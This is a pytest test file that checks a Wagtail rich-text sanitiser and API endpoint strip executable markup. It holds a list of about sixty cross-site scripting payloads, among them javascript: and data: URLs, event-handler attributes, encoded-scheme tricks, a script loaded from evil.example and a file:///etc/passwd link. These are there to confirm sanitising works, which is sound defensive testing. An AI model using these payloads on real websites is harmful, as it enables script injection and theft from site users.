"""Rich text through the API: nothing executable survives the nh3 allowlist."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from wagtail.rich_text import RichText

from delivery.richtext import ALLOWED_TAGS, LinkTargets, render_rich_text

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>"
    "x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='http://ok.example' onclick='alert(1)'>x</a>",
    "<a href='http://ok.example' onmouseover=alert(1)>x</a>",
    "<a linktype='page' id='1' onclick='alert(1)'>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<embed embedtype='image' id='1' format='left' alt='x' onerror='alert(1)'/>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{background:url('javascript:alert(1)')}</style>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<marquee onstart=alert(1)>",
    "<div/onmouseover='alert(1)'>x</div>",
    "<img/src=x/onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="http://ok.example""onclick=alert(1)>x</a>',
    "<a href='//evil.example' target=_blank>x</a>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1)>x</x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<a href='http://ok.example'>fine</a><svg/onload=alert(1)>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<a href='mailto:a@example.org?body=<script>'>x</a>",
]
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag {tag}")
        for name, value in attrs:
            if name not in {"href", "rel"}:
                self.problems.append(f"attribute {name}")
            if name == "href":
                scheme = urlsplit((value or "").strip()).scheme.lower()
                if scheme not in SAFE_SCHEMES:
                    self.problems.append(f"scheme {scheme}")

    def handle_comment(self, data):
        self.problems.append("comment")


def problems_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    if "javascript:" in html.lower() and "href" in html.lower():
        inspector.problems.append("javascript: in an attribute")
    return inspector.problems


def test_there_are_at_least_fifty_payloads():
    assert len(PAYLOADS) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_does_not_survive_sanitising(payload):
    html = render_rich_text(payload, LinkTargets())
    assert problems_in(html) == [], html


def test_no_payload_survives_the_api(api, make_article, settings, tmp_path):
    article = make_article(
        body=[("paragraph", RichText(f"<p>{payload}</p>")) for payload in PAYLOADS]
    )
    body = api.get(f"/api/v1/articles/{article.slug}/").json()["body"]
    assert len(body) == len(PAYLOADS)
    for block in body:
        assert problems_in(block["value"]) == [], block["value"]


def test_safe_markup_is_kept():
    html = render_rich_text(
        '<p><b>Bold</b> <a href="https://example.org">link</a></p>', LinkTargets()
    )
    assert html == (
        '<p><b>Bold</b> <a href="https://example.org" rel="noopener noreferrer">'
        "link</a></p>"
    )
